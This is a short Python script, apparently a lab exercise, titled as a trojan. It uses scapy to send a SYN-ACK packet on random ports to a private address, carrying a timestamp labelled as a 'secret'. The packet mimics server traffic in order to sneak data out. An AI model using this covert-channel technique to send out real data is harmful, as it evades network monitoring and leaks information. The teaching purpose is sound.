"""The trojan, third version: random ports, a SYN-ACK, as a server sends."""

import datetime
import signal
import time

from scapy.all import IP, TCP, RandShort, sr1


class NoAnswer(BaseException):
    """Not an Exception: scapy catches those while it sends, and would then wait for ever."""


def signal_handler(signum, frame):
    raise NoAnswer


def send():
    ip = IP()
    tcp = TCP()
    ip.dst = "10.0.0.2"
    tcp.sport = RandShort()
    tcp.dport = RandShort()
    tcp.flags = "SA"
    payload = "The secret system time of Bob's particle accelerator is: "
    current = time.time()
    formattedstamp = datetime.datetime.fromtimestamp(current).strftime("%Y.%m.%d %H:%M:%S")
    # Send the packet and wait for the reply.
    sr1(ip / tcp / payload / formattedstamp)


signal.signal(signal.SIGALRM, signal_handler)
# Give up if no response comes within 1 second.
signal.alarm(1)
try:
    send()
    # Answered. An alarm while Python winds up would kill it.
    signal.alarm(0)
except NoAnswer:
    print("\n")
    print("Did the packet go through? Check Wireshark!")
